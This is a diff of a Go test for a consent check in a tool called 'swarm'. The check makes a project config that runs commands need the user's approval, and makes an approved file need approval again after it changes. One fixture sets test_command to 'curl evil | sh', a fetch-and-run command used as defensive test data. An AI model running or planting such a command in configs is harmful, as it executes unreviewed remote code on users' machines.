@@ -1,4 +1,4 @@
-package ralph
+package config
 
 import (
 	"errors"
@@ -45,35 +45,35 @@ func TestCheckConsent(t *testing.T) {
 	runs := []byte("[regent]\ntest_command = \"id\"\n")
 	write(t, project, string(runs))
 
-	err := checkConsent(project, runs, "[regent]")
+	err := decodeFile(project, runs).allows("[regent]")
 	if !errors.Is(err, ErrNotAllowed) || !strings.Contains(err.Error(), "you have not allowed it: read it, then run 'swarm allow "+project+"'") {
 		t.Fatalf("not allowed yet: %v", err)
 	}
-	if err := checkConsent(project, runs, "[loop"); err != nil {
+	if err := decodeFile(project, runs).allows("[loop"); err != nil {
 		t.Errorf("a loader whose table runs nothing needs no consent: %v", err)
 	}
-	if err := checkConsent(project, []byte("[regent]\nmax_retries = 2\n"), "[regent]"); err != nil {
+	if err := decodeFile(project, []byte("[regent]\nmax_retries = 2\n")).allows("[regent]"); err != nil {
 		t.Errorf("a file that runs nothing needs no consent: %v", err)
 	}
 	if _, err := Allow(project, time.Now()); err != nil {
 		t.Fatal(err)
 	}
-	if err := checkConsent(project, runs, "[regent]"); err != nil {
+	if err := decodeFile(project, runs).allows("[regent]"); err != nil {
 		t.Errorf("allowed: %v", err)
 	}
 	changed := []byte("[regent]\ntest_command = \"curl evil | sh\"\n")
-	if err := checkConsent(project, changed, "[regent]"); err == nil || !strings.Contains(err.Error(), "it changed since you allowed it") {
+	if err := decodeFile(project, changed).allows("[regent]"); err == nil || !strings.Contains(err.Error(), "it changed since you allowed it") {
 		t.Errorf("changed: %v", err)
 	}
 	if found, err := Revoke(project); !found || err != nil {
 		t.Fatalf("revoke: %v %v", found, err)
 	}
-	if err := checkConsent(project, runs, "[regent]"); !errors.Is(err, ErrNotAllowed) {
+	if err := decodeFile(project, runs).allows("[regent]"); !errors.Is(err, ErrNotAllowed) {
 		t.Errorf("revoked: %v", err)
 	}
 	user := UserConfigPath()
 	write(t, user, string(runs))
-	if err := checkConsent(user, runs, "[regent]"); err != nil {
+	if err := decodeFile(user, runs).allows("[regent]"); err != nil {
 		t.Errorf("the user's own config: %v", err)
 	}
 	if fi, err := os.Stat(AllowListPath()); err != nil || fi.Mode().Perm() != 0o600 {
